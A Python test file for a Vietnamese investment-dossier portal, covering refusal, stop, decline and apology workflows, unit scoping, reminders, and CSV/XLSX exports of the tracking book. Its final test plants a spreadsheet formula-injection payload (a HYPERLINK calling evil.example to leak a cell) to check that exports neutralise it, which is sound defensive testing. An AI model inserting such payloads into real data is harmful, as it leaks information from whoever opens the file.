"""Refusal, stop, decline, apology, supplement at the desk, the book, reminders, scoping."""
from __future__ import annotations

import csv
import io
from datetime import datetime, timedelta
from zoneinfo import ZoneInfo

import pytest
import time_machine
from openpyxl import load_workbook

from portal.catalogue.models import Unit
from portal.db import utcnow
from portal.documents.models import SlipKind
from portal.dossiers import operations as ops
from portal.dossiers.models import Dossier
from portal.dossiers.operations import DossierError, receive_dossier, submit_dossier
from portal.dossiers.workflow import State
from tests.conftest import slip_of
from tests.dossiers.test_officer_walkthrough import act_as
from tests.factories import UserFactory

VN = ZoneInfo("Asia/Ho_Chi_Minh")


def test_desk_refuses_with_the_specific_reason(client, db, submitted, staff, outbox):
    act_as(client, staff["desk"])
    page = client.post(f"/officer/dossiers/{submitted.id}/refuse", data={"refuse-reason": "  "}).get_data(as_text=True)
    assert "Cần nêu rõ lý do từ chối." in page
    assert db.session.get(Dossier, submitted.id).state is State.SUBMITTED
    reason = "Dự án thuộc diện phải chấp thuận chủ trương đầu tư trước khi cấp Giấy chứng nhận"
    client.post(f"/officer/dossiers/{submitted.id}/refuse", data={"refuse-reason": reason})
    dossier = db.session.get(Dossier, submitted.id)
    assert dossier.state is State.REFUSED and dossier.national_code == 3
    text = slip_of(client, db, dossier, SlipKind.REFUSAL)
    assert "PHIẾU TỪ CHỐI TIẾP NHẬN, GIẢI QUYẾT HỒ SƠ" in text and reason in text and dossier.code in text
    assert dossier.enterprise.name in text and "NGUYỄN THỊ TIẾP NHẬN" not in text and "Nguyễn Thị Tiếp Nhận" in text
    [mail] = outbox.to(dossier.created_by.email)
    assert mail["Subject"] == f"Hồ sơ {dossier.code}: không được tiếp nhận"  # every space kept
    assert reason in outbox.body(mail)


def test_supplement_at_the_desk_goes_back_to_the_desk(client, db, submitted, staff):
    act_as(client, staff["desk"])
    response = client.post(f"/officer/dossiers/{submitted.id}/supplement", data={"supplement-items-0-description": "Bản sao CCCD"})
    assert "Mỗi nội dung cần nêu rõ giấy tờ cần bổ sung và lý do." in response.get_data(as_text=True)
    assert 'value="Bản sao CCCD"' in response.get_data(as_text=True)  # what was typed stays
    client.post(f"/officer/dossiers/{submitted.id}/supplement",
                data={"supplement-items-0-description": "Bản sao CCCD", "supplement-items-0-reason": "Bản đã nộp bị mờ"})
    dossier = db.session.get(Dossier, submitted.id)
    assert dossier.state is State.SUPPLEMENT_REQUESTED and dossier.supplement_origin is State.SUBMITTED
    text = slip_of(client, db, dossier, SlipKind.SUPPLEMENT)
    assert "Bản sao CCCD" in text and "Bản đã nộp bị mờ" in text and "Nguyễn Thị Tiếp Nhận" in text
    assert "tạm dừng" not in text  # not received yet: no clock to stop


def test_a_supplement_request_with_no_items_is_refused(db, in_progress, staff):
    with pytest.raises(DossierError):
        ops.request_supplement(in_progress, staff["specialist"], [{"description": "", "reason": ""}])
    assert in_progress.state is State.IN_PROGRESS and in_progress.supplement_requests == []


def test_proposed_stop_approved_issues_the_stop_notice(client, db, in_progress, staff):
    act_as(client, staff["specialist"])
    client.post(f"/officer/dossiers/{in_progress.id}/propose-stop", data={"stop-reason": "Nhà đầu tư đề nghị dừng để điều chỉnh quy mô"})
    act_as(client, staff["head"])  # an IRC procedure: the head reviews and forwards
    client.post(f"/officer/dossiers/{in_progress.id}/forward", data={"forward-comment": "Đồng ý dừng"})
    act_as(client, staff["leader"])
    client.post(f"/officer/dossiers/{in_progress.id}/approve", data={})
    dossier = db.session.get(Dossier, in_progress.id)
    assert dossier.state is State.STOPPED and dossier.national_code == 8 and dossier.outcome.value == "stopped"
    act_as(client, dossier.created_by)
    text = slip_of(client, db, dossier, SlipKind.STOP)
    for expected in ("THÔNG BÁO DỪNG GIẢI QUYẾT HỒ SƠ", "Kính gửi", dossier.enterprise.name,
                     "Nhà đầu tư đề nghị dừng để điều chỉnh quy mô",  # the reason
                     "Cấp Giấy chứng nhận đăng ký đầu tư đối với dự án thuộc diện chấp thuận",  # what was asked
                     "Giai đoạn giải quyết: Hồ sơ đã được xử lý, đang trình lãnh đạo phê duyệt",  # the stage
                     "Quyết định: Dừng giải quyết hồ sơ", "PHÓ TRƯỞNG BAN", "Hồ Văn Lãnh Đạo"):
        assert expected in text, expected


def test_a_withdrawal_gets_its_notice(client, db, in_progress):
    act_as(client, in_progress.created_by)
    client.post(f"/dossiers/{in_progress.id}/withdraw", data={"reason": "Thay đổi phương án đầu tư"})
    dossier = db.session.get(Dossier, in_progress.id)
    assert dossier.state is State.WITHDRAWN
    text = slip_of(client, db, dossier, SlipKind.STOP)
    for expected in ("THÔNG BÁO DỪNG GIẢI QUYẾT HỒ SƠ", "Đề nghị của tổ chức, cá nhân: Thay đổi phương án đầu tư",
                     "Giai đoạn giải quyết: Hồ sơ đang được thẩm định, xử lý",
                     "Dừng giải quyết hồ sơ theo đề nghị rút hồ sơ của tổ chức, cá nhân", "TRƯỞNG BAN"):
        assert expected in text, expected


def test_decline_issues_a_written_refusal_with_every_reason(client, db, in_progress, staff, outbox):
    from tests.samples import PDF

    act_as(client, staff["specialist"])
    client.post(f"/officer/dossiers/{in_progress.id}/propose-result",
                data={"propose-draft": (io.BytesIO(PDF), "du-thao.pdf")}, content_type="multipart/form-data")
    act_as(client, staff["head"])
    client.post(f"/officer/dossiers/{in_progress.id}/forward", data={"forward-comment": "Trình Lãnh đạo Ban"})
    act_as(client, staff["leader"])
    reasons = "1. Không phù hợp quy hoạch phân khu\n2. Suất đầu tư thấp hơn quy định"
    client.post(f"/officer/dossiers/{in_progress.id}/decline", data={"decline-reasons": reasons})
    dossier = db.session.get(Dossier, in_progress.id)
    assert dossier.state is State.RESOLVED and dossier.national_code == 9
    assert dossier.outcome.value == "not_approved"
    act_as(client, dossier.created_by)
    page = client.get(f"/dossiers/{dossier.id}").get_data(as_text=True)
    assert "Không phê duyệt" in page and "Không phù hợp quy hoạch phân khu" in page
    assert "du-thao.pdf" not in page and "Phiếu từ chối tiếp nhận, giải quyết hồ sơ" in page
    draft = next(f for f in dossier.files if f.kind.value == "draft_result")
    assert client.get(f"/dossiers/{dossier.id}/files/{draft.id}").status_code == 404
    text = slip_of(client, db, dossier, SlipKind.REFUSAL)  # the investor downloads it
    for expected in ("PHIẾU TỪ CHỐI TIẾP NHẬN, GIẢI QUYẾT HỒ SƠ", "Qua thẩm định",
                     "1 Không phù hợp quy hoạch phân khu", "2 Suất đầu tư thấp hơn quy định",
                     "PHÓ TRƯỞNG BAN", "Hồ Văn Lãnh Đạo"):
        assert expected in text, expected
    [mail] = [m for m in outbox.to(dossier.created_by.email) if "đã có kết quả" in m["Subject"]]
    assert "không được chấp thuận" in outbox.body(mail) and "Suất đầu tư thấp hơn quy định" in outbox.body(mail)


def apology_form(day, hhmm="10:30", reason="Cần lấy ý kiến Sở Tài chính"):
    return {"apology-new_date": day.isoformat(), "apology-new_time": hhmm, "apology-reason": reason}


def test_apology_moves_the_appointment_once_and_tells_the_investor_the_new_date(client, db, in_progress, staff,
                                                                                outbox):
    from portal.calendar import add_working_days

    original = in_progress.due_at
    new_day = add_working_days(original.astimezone(VN).date(), 3)
    act_as(client, staff["desk"])
    page = client.post(f"/officer/dossiers/{in_progress.id}/apology",
                       data=apology_form(new_day, reason="")).get_data(as_text=True)
    assert "Cần nêu lý do chậm trễ." in page
    client.post(f"/officer/dossiers/{in_progress.id}/apology", data=apology_form(new_day))
    dossier = db.session.get(Dossier, in_progress.id)
    assert dossier.due_at.astimezone(VN) == datetime.combine(new_day, datetime.min.time().replace(hour=10, minute=30), VN)
    assert dossier.legal_due_at == original  # the legal due date, which grades it, stays
    assert dossier.state is State.IN_PROGRESS
    [mail] = [m for m in outbox.to(dossier.created_by.email) if "hẹn lại ngày trả kết quả" in m["Subject"]]
    assert f"10:30 {new_day:%d/%m/%Y}" in outbox.body(mail) and "Cần lấy ý kiến Sở Tài chính" in outbox.body(mail)
    act_as(client, dossier.created_by)
    text = slip_of(client, db, dossier, SlipKind.APOLOGY)
    for expected in ("VĂN BẢN XIN LỖI VÀ HẸN LẠI NGÀY TRẢ KẾT QUẢ", "Kính gửi: " + dossier.enterprise.name,
                     "Cần lấy ý kiến Sở Tài chính", original.astimezone(VN).strftime("%d/%m/%Y"),
                     "10 giờ 30 phút, ngày " + new_day.strftime("%d/%m/%Y"), "TRƯỞNG BAN"):
        assert expected in text, expected
    # A second apology is refused and changes nothing.
    with pytest.raises(DossierError, match="một lần"):
        ops.issue_apology(dossier, staff["head"], dossier.due_at + timedelta(days=1), "lần hai")
    assert dossier.due_at.astimezone(VN).date() == new_day


def test_an_apology_needs_a_working_day_within_office_hours_before_the_deadline(client, db, in_progress, staff):
    from portal.calendar import add_working_days, is_working_day

    due_day = in_progress.due_at.astimezone(VN).date()
    day_off = next(due_day + timedelta(days=n) for n in range(1, 10) if not is_working_day(due_day + timedelta(days=n)))
    working = add_working_days(due_day, 2)
    act_as(client, staff["head"])
    cases = [
        (apology_form(day_off), f"Ngày hẹn mới phải là ngày làm việc: ngày {day_off:%d/%m/%Y} là ngày nghỉ."),
        (apology_form(working, "21:00"), "Giờ hẹn mới phải trong giờ hành chính (từ 07:00 đến 17:00)."),
        (apology_form(due_day - timedelta(days=7) if is_working_day(due_day - timedelta(days=7)) else due_day,
                      in_progress.due_at.astimezone(VN).strftime("%H:%M")), "Ngày hẹn mới phải sau ngày hẹn hiện tại"),
        (apology_form(add_working_days(due_day, 6)), "Ngày hẹn mới không được sau ngày"),  # QLDT-02: 5 days more at most
    ]
    for data, message in cases:
        page = client.post(f"/officer/dossiers/{in_progress.id}/apology", data=data).get_data(as_text=True)
        assert message in page, message
        assert 'value="Cần lấy ý kiến Sở Tài chính"' in page or "Cần lấy ý kiến Sở Tài chính</textarea>" in page
    with time_machine.travel(in_progress.due_at + timedelta(minutes=1), tick=False):
        act_as(client, staff["head"])
        page = client.post(f"/officer/dossiers/{in_progress.id}/apology", data=apology_form(working)).get_data(
            as_text=True)
        assert "Đã quá hạn giải quyết" in page
    dossier = db.session.get(Dossier, in_progress.id)
    assert dossier.apology_issued_at is None and dossier.due_at == dossier.legal_due_at  # nothing saved


def test_officer_of_another_unit_sees_none_of_the_units_dossiers(client, db, in_progress, staff):
    construction = db.session.scalar(db.select(Unit).where(Unit.code == "XDTNMT"))
    other_head = UserFactory(department_head=True, unit=construction)
    other_specialist = UserFactory(specialist=True, unit=construction)
    for officer in (other_head, other_specialist):
        act_as(client, officer)
        assert client.get(f"/officer/dossiers/{in_progress.id}").status_code == 404
        assert client.post(f"/officer/dossiers/{in_progress.id}/notes", data={"note-text": "x"}).status_code == 404
    act_as(client, other_head)
    assert in_progress.code not in client.get("/officer/unit").get_data(as_text=True)
    act_as(client, staff["head"])
    assert in_progress.code in client.get("/officer/unit").get_data(as_text=True)


def test_investors_cannot_reach_the_workspace(client, db, in_progress):
    act_as(client, in_progress.created_by)
    assert client.get("/officer/desk").status_code == 403
    assert client.get(f"/officer/dossiers/{in_progress.id}").status_code == 403


def test_tracking_book_page_csv_and_xlsx(client, db, in_progress, staff, make_draft):
    refused = make_draft()
    submit_dossier(refused, refused.created_by)
    ops.refuse_dossier(refused, staff["desk"], "Không thuộc thẩm quyền của Ban")
    other = make_draft()
    submit_dossier(other, other.created_by)
    receive_dossier(other, staff["desk"])
    db.session.commit()
    serials = [in_progress.book_serial, refused.book_serial, other.book_serial]
    assert serials == sorted(serials) and len(set(serials)) == 3  # numbered in turn, once
    act_as(client, staff["desk"])
    today = utcnow().astimezone(VN).date()
    query = {"start": (today - timedelta(days=1)).isoformat(), "end": today.isoformat()}
    page = client.get("/officer/book", query_string=query).get_data(as_text=True)
    assert "Sổ theo dõi hồ sơ" in page and in_progress.code in page and other.code in page

    response = client.get("/officer/book.csv", query_string=query)
    assert response.mimetype == "text/csv" and "attachment" in response.headers["Content-Disposition"]
    rows = list(csv.reader(io.StringIO(response.get_data(as_text=True).lstrip("\ufeff"))))
    assert rows[0] == ["STT", "Mã hồ sơ", "Thủ tục", "Số bộ", "Tổ chức, cá nhân nộp hồ sơ", "Địa chỉ, số điện thoại",
                       "Đơn vị giải quyết", "Ngày tiếp nhận", "Hẹn trả kết quả", "Chuyển hồ sơ đến cơ quan giải quyết",
                       "Nhận kết quả từ cơ quan giải quyết", "Ngày trả kết quả", "Ghi chú"]
    assert [r[1] for r in rows[1:]] == [in_progress.code, refused.code, other.code]
    first = rows[1]
    assert first[0] == str(in_progress.book_serial) and first[3] == "01"[-1]
    assert first[5] == f"{in_progress.enterprise.address}, {in_progress.created_by.phone}"
    assert first[6] == "Phòng Quản lý đầu tư"
    assert "Từ chối tiếp nhận" in rows[2][12] and "Không thuộc thẩm quyền của Ban" in rows[2][12]
    # A narrower date filter shows the same serials: they belong to the dossier, not to the page.
    narrow = client.get("/officer/book.csv", query_string={"start": today.isoformat(), "end": today.isoformat()})
    assert [r[0] for r in csv.reader(io.StringIO(narrow.get_data(as_text=True).lstrip("\ufeff")))][1:] == \
        [str(s) for s in serials]

    # The receipt prints the same serial.
    act_as(client, in_progress.created_by)
    receipt = slip_of(client, db, in_progress, SlipKind.RECEIPT)
    assert f"Số thứ tự: {in_progress.book_serial}." in receipt

    act_as(client, staff["desk"])
    response = client.get("/officer/book.xlsx", query_string=query)
    sheet = load_workbook(io.BytesIO(response.data)).active
    values = [[c.value for c in row] for row in sheet.iter_rows()]
    assert values[0][0] == "Sổ theo dõi hồ sơ"
    assert values[1][1] == "Mã hồ sơ"
    assert [r[1] for r in values[2:]] == [in_progress.code, refused.code, other.code]
    assert values[2][4] == in_progress.enterprise.name  # Vietnamese text kept

    # A specialist of another unit gets an empty book.
    construction = db.session.scalar(db.select(Unit).where(Unit.code == "XDTNMT"))
    act_as(client, UserFactory(specialist=True, unit=construction))
    assert in_progress.code not in client.get("/officer/book", query_string=query).get_data(as_text=True)


def test_remind_mails_due_tomorrow_and_overdue(app, db, in_progress, staff, outbox):
    due = in_progress.due_at
    with time_machine.travel(due - timedelta(hours=20), tick=False):
        result = app.test_cli_runner().invoke(args=["dossiers", "remind"])
    assert result.exit_code == 0 and "reminders sent" in result.output
    [mail] = [m for m in outbox.to(staff["specialist"].email) if "Hồ sơ đến hạn" in m["Subject"]]
    assert in_progress.code in outbox.body(mail) and "Đến hạn ngày mai" in outbox.body(mail)
    with time_machine.travel(due + timedelta(days=3), tick=False):
        app.test_cli_runner().invoke(args=["dossiers", "remind"])
    latest = outbox.to(staff["specialist"].email)[-1]
    assert "Quá hạn" in outbox.body(latest)


def test_remind_covers_the_desk(app, db, submitted, staff, outbox):
    with time_machine.travel(submitted.submitted_at + timedelta(days=3), tick=False):
        result = app.test_cli_runner().invoke(args=["dossiers", "remind"])
    assert result.exit_code == 0
    [mail] = outbox.to(staff["desk"].email)
    assert "Đang chờ tại Bộ phận Một cửa" in outbox.body(mail) and submitted.code in outbox.body(mail)


def test_overdue_is_shown_in_the_queue(client, db, in_progress, staff):
    with time_machine.travel(in_progress.due_at + timedelta(days=2), tick=False):
        act_as(client, staff["specialist"])
        page = client.get("/officer/mine").get_data(as_text=True)
        assert "Quá hạn" in page and "is-overdue" in page
        page = client.get(f"/officer/dossiers/{in_progress.id}").get_data(as_text=True)
        assert "quá hạn" in page


def test_the_book_exports_keep_formulas_out_and_types_in(client, db, in_progress, staff):
    from datetime import datetime as dt

    hostile = '=HYPERLINK("http://evil.example/?x="&B2,"Click")'
    in_progress.enterprise.name = hostile
    in_progress.enterprise.address = "@SUM(1+1)"
    db.session.commit()
    act_as(client, staff["desk"])
    today = utcnow().astimezone(VN).date()
    query = {"start": today.isoformat(), "end": today.isoformat()}

    response = client.get("/officer/book.csv", query_string=query)
    assert response.headers["Content-Type"] == "text/csv; charset=utf-8"
    rows = list(csv.reader(io.StringIO(response.get_data(as_text=True).lstrip("\ufeff"))))
    assert rows[1][4] == "'" + hostile and rows[1][5].startswith("'@SUM(1+1)")
    assert rows[1][0] == str(in_progress.book_serial)

    sheet = load_workbook(io.BytesIO(client.get("/officer/book.xlsx", query_string=query).data)).active
    serial, name, received = sheet.cell(3, 1), sheet.cell(3, 5), sheet.cell(3, 8)
    assert name.value == hostile and name.data_type == "s"  # a string, not a formula
    assert serial.value == in_progress.book_serial and serial.data_type == "n"
    assert isinstance(received.value, dt) and received.is_date
    local = in_progress.received_at.astimezone(VN).replace(tzinfo=None)
    assert abs((received.value - local).total_seconds()) < 1  # local time, as the desk reads it
